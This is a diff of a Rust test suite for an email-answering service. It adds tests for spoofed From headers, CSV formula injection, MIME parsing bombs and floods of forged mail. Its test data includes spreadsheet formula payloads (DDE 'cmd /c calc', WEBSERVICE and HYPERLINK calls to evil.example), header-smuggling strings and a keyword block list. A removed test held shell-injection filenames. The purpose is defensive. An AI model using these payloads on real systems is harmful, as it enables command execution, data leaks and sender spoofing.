@@ -187,12 +187,100 @@ fn a_header_that_two_programs_could_read_in_two_ways_names_no_sender() {
         "From: a@\r\n",
         "From: \r\n",
         "Sender: a@good.example\r\n",
+        // As in the published lists of such tricks: what one program takes for the end of an address, of a line or of the
+        // header, another one does not.
+        "From: <a@good.example>, <b@evil.example>\r\n",
+        "From: <a@good.example>; <b@evil.example>\r\n",
+        "From: a@good.example;b@evil.example\r\n",
+        "From: a@good.example\\,b@evil.example\r\n",
+        "From: a@good.example,(\r\n c)b@evil.example\r\n",
+        "From: <a@good.example\\>b@evil.example>\r\n",
+        "From: <<a@good.example>b@evil.example>\r\n",
+        "From: <a@good.example>:b@evil.example\r\n",
+        "From: b@evil.example:<a@good.example>\r\n",
+        "From: (a@good.example) \r\n",
+        "From: <(a@good.example)b@evil.example>\r\n",
+        "From: a@good.example(b@evil.example\r\n",
+        "From: <a@good.example> b@evil.example\r\n",
+        "From: \"a@good.example\" \"<b@evil.example>\"\r\n",
+        "From: =?utf-8?b?PGFAZ29vZC5leGFtcGxlPg==?=\r\n",
+        "From: =?utf-8?q?=3Ca=40good.example=3E=00?=b@evil.example\r\n",
+        "From: <=?utf-8?q?a=40good.example?=>\r\n",
+        "From: a@good.example\r\nFrom : b@evil.example\r\n",
+        "From: a@good.example\r\nFROM: b@evil.example\r\n",
+        "From: a@good.example\r\nFrom\t: b@evil.example\r\n",
+        "From: a@good.example\nFrom: b@evil.example\r\n",
+        "From: a@good.example\rFrom: b@evil.example\r\n",
+        " From: a@good.example\r\nFrom: b@evil.example\r\nFrom: c@evil.example\r\n",
+        "From: a@good.example\u{7f}\r\n",
+        "From: a@good.\u{200b}example\r\n",
+        "From: a@good..example\r\n",
+        "From: a..b@good.example\r\n",
+        "From: a@[192.0.2.1]\r\n",
+        "From: undisclosed-recipients:;\r\n",
+        "Resent-From: a@good.example\r\n",
     ];
+    assert_eq!(tricks.len(), 55);
+    let mut named = Vec::new();
     for trick in tricks {
         let raw = format!("{trick}To: {ADDRESS}\r\nSubject: x\r\n\r\nstop\r\n");
         let from = inbound::claims(&inbound::parse(raw.as_bytes())).from;
-        assert!(from.is_none(), "{trick:?} names {from:?}");
+        if let Some(from) = from {
+            named.push((trick, from.address));
+        }
     }
+    assert!(named.is_empty(), "{named:#?}");
+}
+
+/// T9: whoever writes from an address that counts as the one on file is answered there and nowhere else, or a letter with what is
+/// somebody's would go to who only looks like them.
+#[test]
+fn who_is_found_by_a_like_address_is_written_to_at_the_stored_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut engine = engine(dir.path(), false);
+    let pairs = [
+        ("Ana.Lima@Library.Example", "ana.lima@library.example"),
+        ("o'neil+x@LIBRARY.example", "O'NEIL+X@library.example"),
+        ("jo@xn--bcher-kva.example", "JO@XN--BCHER-KVA.EXAMPLE"),
+        ("MAX@library.example", "max@LIBRARY.EXAMPLE"),
+    ];
+    for (number, (stored, like)) in pairs.into_iter().enumerate() {
+        arrive(
+            &mut engine,
+            &mail(stored, number, "", "How can I take part?"),
+            open(),
+        );
+        let next_day = open() + TimeDelta::hours(25);
+        arrive(
+            &mut engine,
+            &mail(like, 100 + number, "", "How can I take part?"),
+            next_day,
+        );
+    }
+    let db = engine.store().reader();
+    let mut rows = db
+        .prepare("SELECT envelope_to FROM outbox WHERE person_id IS NOT NULL ORDER BY id")
+        .unwrap();
+    let to: Vec<String> = rows
+        .query_map([], |row| row.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    let mut rows = db
+        .prepare("SELECT address FROM person ORDER BY id")
+        .unwrap();
+    let stored: Vec<String> = rows
+        .query_map([], |row| row.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    let twice: Vec<&String> = stored.iter().flat_map(|stored| [stored; 2]).collect();
+    let mut to: Vec<&String> = to.iter().collect();
+    to.sort();
+    let mut wanted = twice;
+    wanted.sort();
+    assert_eq!(to, wanted);
+    assert_eq!(count(&engine, "SELECT count(*) FROM person"), 4);
 }
 
 #[test]
@@ -485,18 +573,95 @@ fn markup_of_others_reaches_nobody() {
             .parse(&letter)
             .unwrap();
         let html = parsed.body_html(0).unwrap_or_default().to_lowercase();
-        for tag in [
-            "<script",
-            "<img",
-            "<svg",
-            "<iframe",
-            "<form",
-            "onerror=alert(1)>",
-            "href=\"javascript",
-            "<meta http-equiv",
-        ] {
+        for tag in ["<script", "<img", "<svg", "<iframe", "<form"] {
             assert!(!html.contains(tag), "{tag} in {html}");
         }
+        // Of what others wrote nothing stands between a `<` and its `>`.
+        for tag in html.split('<').skip(1) {
+            let (tag, _) = tag.split_once('>').unwrap_or((tag, ""));
+            for word in [
+                "alert",
+                "evil",
+                "onload",
+                "onerror",
+                "javascript",
+                "refresh",
+                "fixed",
+                "mso",
+                "display:none}",
+            ] {
+                assert!(!tag.contains(word), "{word} in <{tag}>");
+            }
+        }
+    }
+}
+
+/// What people wrote, in tables that coordinators open in a spreadsheet program: no cell is taken for a formula.
+#[test]
+fn of_two_hundred_formulas_none_is_one_in_a_table() {
+    let begins = [
+        "=",
+        "+",
+        "-",
+        "@",
+        "\t=",
+        "\r=",
+        "\n=",
+        "＝",
+        "＋",
+        "－",
+        "＠",
+        "==",
+        "=-",
+        "+=",
+        "-@",
+        "@=",
+        "=\"",
+        "='",
+        "=(",
+        "=\u{200b}",
+    ];
+    let formulas = [
+        "1+1",
+        "HYPERLINK(\"https://evil.example\",\"x\")",
+        "cmd|'/c calc'!A0",
+        "IMPORTXML(CONCAT(\"//evil.example\",A1),\"//a\")",
+        "WEBSERVICE(\"https://evil.example\")",
+        "SUM(1;1)*cmd|' /C calc'!A0",
+        "DDE(\"cmd\";\"/C calc\";\"x\")",
+        "INDIRECT(\"A1\")",
+        "1,\"=1+1\"",
+        "A1\r\n=1+1",
+    ];
+    let payloads: Vec<String> = begins
+        .iter()
+        .flat_map(|begin| {
+            formulas
+                .iter()
+                .map(move |formula| format!("{begin}{formula}"))
+        })
+        .collect();
+    assert_eq!(payloads.len(), 200);
+    let rows = payloads
+        .iter()
+        .map(|payload| vec!["7".to_string(), payload.clone()]);
+    let table = pairpost::programme::spreadsheet::write(&["number", "name"], rows);
+    let mut reader = csv::ReaderBuilder::new().from_reader(&table[..]);
+    let cells: Vec<String> = reader
+        .records()
+        .map(|record| {
+            let record = record.unwrap();
+            assert_eq!(
+                record.len(),
+                2,
+                "a comma or a line end opened another cell: {record:?}"
+            );
+            record[1].to_string()
+        })
+        .collect();
+    assert_eq!(cells.len(), 200);
+    for (cell, payload) in cells.iter().zip(&payloads) {
+        assert_eq!(cell, &format!("'{payload}"));
     }
 }
 
@@ -602,42 +767,107 @@ fn three_hundred_broken_mails_do_not_hold_up_three_hundred_good_ones() {
     );
 }
 
+/// A piece again and again, up to the size at which a message is still read whole.
+fn up_to_the_cap(before: &str, piece: &str) -> Vec<u8> {
+    const MEBIBYTE: usize = 1 << 20;
+    let room = (MEBIBYTE - before.len() - 200) / piece.len();
+    format!("{before}{}", piece.repeat(room)).into_bytes()
+}
+
+/// T16: what grows when it is taken apart. Every one is handled or set aside, and the mail behind it is answered.
 #[test]
-fn names_of_attachments_make_no_files() {
-    let dir = tempfile::tempdir().unwrap();
-    let mut engine = engine(dir.path(), true);
-    let names = if long() { 10_000 } else { 1_000 };
-    let listed = || -> Vec<String> {
-        let mut files: Vec<String> = std::fs::read_dir(dir.path().join("state"))
-            .unwrap()
-            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
-            .collect();
-        files.sort();
-        files
+fn after_each_of_22_bombs_the_next_mail_is_answered() {
+    let head = "MIME-Version: 1.0\r\n";
+    let mixed = "Content-Type: multipart/mixed; boundary=b\r\n\r\n";
+    let numbered = |make: fn(usize) -> String| -> Vec<u8> {
+        let mut text = head.to_string();
+        for number in 0.. {
+            if text.len() > (1 << 20) - 300 {
+                break;
+            }
+            text += &make(number);
+        }
+        text.into_bytes()
     };
-    let before = listed();
-    for number in 0..names {
-        let name = format!(
-            "{}/tmp/pairpost-evil-{number};touch x|$(id)`id`.zip",
-            "../".repeat(number % 9)
+    let bombs = [
+        up_to_the_cap(head, "Content-Type: message/rfc822\r\n\r\n"),
+        numbered(|it| format!("Content-Type: multipart/mixed; boundary=b{it}\r\n\r\n--b{it}\r\n")),
+        up_to_the_cap(&format!("{head}{mixed}"), "--b\r\n\r\n"),
+        up_to_the_cap(&format!("{head}{mixed}"), "--b--\r\n"),
+        up_to_the_cap(
+            &format!("{head}{mixed}"),
+            "--b\r\nContent-Type: text/html\r\n\r\n<p>x\r\n",
+        ),
+        up_to_the_cap(&format!("{head}Subject: "), "=?utf-8?b?YWFh?= "),
+        up_to_the_cap(&format!("{head}Subject: "), "x"),
+        numbered(|it| format!("X-{it}: y\r\n")),
+        up_to_the_cap(head, "no colon in this line\r\n"),
+        up_to_the_cap(&format!("{head}References:"), " <a@b.example>"),
+        up_to_the_cap(&format!("{head}Cc:"), " a@b.example,\r\n"),
+        up_to_the_cap(&format!("{head}Cc: "), "("),
+        up_to_the_cap(&format!("{head}Date: "), "("),
+        up_to_the_cap(&format!("{head}Content-Type: text/plain"), "; a=b"),
+        numbered(|it| match it {
+            0 => "Content-Disposition: attachment".into(),
+            it => format!(";\r\n filename*{}*=utf-8''%41", it - 1),
+        }),
+        up_to_the_cap(
+            &format!("{head}Content-Transfer-Encoding: base64\r\n\r\n"),
+            "QUFB",
+        ),
+        up_to_the_cap(
+            &format!("{head}Content-Transfer-Encoding: quoted-printable\r\n\r\n"),
+            "=\r\n",
+        ),
+        up_to_the_cap(
+            &format!("{head}Content-Type: text/html\r\n\r\n"),
+            "<table><td>",
+        ),
+        up_to_the_cap(
+            &format!("{head}Content-Type: text/html\r\n\r\n"),
+            "&CounterClockwiseContourIntegral;",
+        ),
+        up_to_the_cap(&format!("{head}Content-Type: text/html\r\n\r\n"), "<a b='"),
+        up_to_the_cap(
+            &format!("{head}Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n"),
+            "\u{1b}$B\u{1b}(B",
+        ),
+        up_to_the_cap(
+            &format!("{head}Content-Type: text/plain; format=flowed; charset=utf-7\r\n\r\n"),
+            "> +AD4- \r\n",
+        ),
+    ];
+    assert_eq!(bombs.len(), 22);
+    let dir = tempfile::tempdir().unwrap();
+    let mut engine = engine(dir.path(), false);
+    for (number, bomb) in bombs.iter().enumerate() {
+        let from = format!("From: b{number}@bombs.example\r\nMessage-ID: <b{number}@x>\r\n");
+        let bomb = [from.as_bytes(), bomb].concat();
+        assert!(
+            bomb.len() > 900_000 && bomb.len() <= 1 << 20,
+            "{number}: {}",
+            bomb.len()
         );
-        let text = format!(
-            "From: anna@library.example\r\nTo: {ADDRESS}\r\nSubject: a\r\nMessage-ID: <{number}@l.example>\r\n\
-             Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b\r\n\
-             Content-Type: application/zip; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\r\nPK\r\n--b--\r\n"
+        let id = arrive(&mut engine, &bomb, open());
+        let state = count(
+            &engine,
+            &format!("SELECT state = 'new' FROM inbox WHERE id = {}", id.0),
         );
-        arrive(&mut engine, text.as_bytes(), now());
+        assert_eq!(state, 0, "bomb {number} waits to be read again");
+        arrive(
+            &mut engine,
+            &mail(
+                &format!("p{number}@library.example"),
+                number,
+                "",
+                "How can I take part?",
+            ),
+            open(),
+        );
+        let answered =
+            format!("SELECT count(*) FROM outbox WHERE envelope_to = 'p{number}@library.example'");
+        assert_eq!(count(&engine, &answered), 1, "after bomb {number}");
     }
-    assert_eq!(listed(), before);
-    let made = std::fs::read_dir("/tmp").unwrap().filter(|entry| {
-        entry
-            .as_ref()
-            .unwrap()
-            .file_name()
-            .to_string_lossy()
-            .contains("pairpost-evil")
-    });
-    assert_eq!(made.count(), 0);
 }
 
 #[test]
@@ -729,13 +959,104 @@ fn a_flood_of_forged_applications_is_queued_behind_a_ceiling_and_told_in_few_lin
         ),
         i64::try_from(forged).unwrap()
     );
+    // The digest tells it in one line, and shows nothing that the attacker wrote.
+    let text = digest_after(&mut engine, open());
+    let told: Vec<&str> = text
+        .lines()
+        .filter(|line| {
+            line.contains("written for the first time") || line.contains("victims.example")
+        })
+        .collect();
+    assert_eq!(told.len(), 1, "{text}");
+    assert!(
+        told[0].starts_with(&format!("{forged} people")),
+        "{}",
+        told[0]
+    );
+    assert!(!text.contains("I would like to apply"), "{text}");
+    engine
+        .store()
+        .reader()
+        .query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()))
+        .unwrap();
     let bytes = std::fs::metadata(dir.path().join("state/pairpost.db"))
         .unwrap()
         .len();
-    assert!(
-        bytes < 50_000_000 * u64::try_from(forged).unwrap() / 1_500,
-        "{bytes}"
+    println!(
+        "{forged} forged senders: a database of {} kB",
+        bytes / 1_000
     );
+    assert!(bytes < 50_000_000, "{bytes}");
+}
+
+/// The text of the next digest, a line for each paragraph.
+fn digest_after(engine: &mut Engine, at: Moment) -> String {
+    engine.start(at).unwrap();
+    for hour in 0..=10 * 24 {
+        let at = at + TimeDelta::hours(hour);
+        while engine.tick(at, 500).unwrap().handled > 0 {}
+        let bytes: Option<Vec<u8>> = engine
+            .store()
+            .reader()
+            .query_row(
+                "SELECT bytes FROM outbox JOIN outbox_bytes ON letter_id = outbox.id WHERE kind = 'digest'",
+                [],
+                |row| row.get(0),
+            )
+            .ok();
+        if let Some(bytes) = bytes {
+            let parsed = mail_parser::MessageParser::default()
+                .parse(&bytes)
+                .unwrap()
+                .into_owned();
+            let text = parsed.body_text(0).unwrap().replace("\r\n", "\n");
+            let paragraphs = text.split("\n\n").map(|it| it.replace('\n', " "));
+            return paragraphs.collect::<Vec<_>>().join("\n");
+        }
+    }
+    panic!("no digest within ten days");
+}
+
+/// The ceiling holds for as long as the flood lasts, and not for its first hour alone.
+#[test]
+fn a_flood_that_goes_on_for_hours_does_not_grow_beyond_the_ceiling() {
+    let dir = tempfile::tempdir().unwrap();
+    let ceiling = 20;
+    let mut config = config::built_in().on_maildirs(dir.path());
+    config.settings.ceilings.stranger_letters_per_hour_open = ceiling;
+    std::fs::create_dir_all(&config.state_dir).unwrap();
+    let mut engine = Engine::open(config, keys_of(1), Durability::Rehearsal).unwrap();
+    let ceiling = i64::from(ceiling);
+    let flood = 6 * 2 * ceiling;
+    for number in 0..flood {
+        // Twice the ceiling an hour, for six hours.
+        let at = open() + TimeDelta::seconds(number * 3_600 / (2 * ceiling));
+        let from = format!("p{number}@victims.example");
+        let number = usize::try_from(number).unwrap();
+        arrive(
+            &mut engine,
+            &mail(&from, number, "", "I would like to apply."),
+            at,
+        );
+    }
+    let mut all = 0;
+    for hour in 0..24 {
+        let (from, to) = (
+            open() + TimeDelta::hours(hour),
+            open() + TimeDelta::hours(hour + 1),
+        );
+        let leave = count(
+            &engine,
+            &format!(
+                "SELECT count(*) FROM outbox WHERE kind = 'form' AND due_at >= {} AND due_at < {}",
+                from.timestamp(),
+                to.timestamp()
+            ),
+        );
+        assert!(leave <= ceiling, "hour {hour}: {leave}");
+        all += leave;
+    }
+    assert_eq!(all, flood, "none is lost");
 }
 
 /// A letter of the sample database, so that an answer to it counts as its reader's.
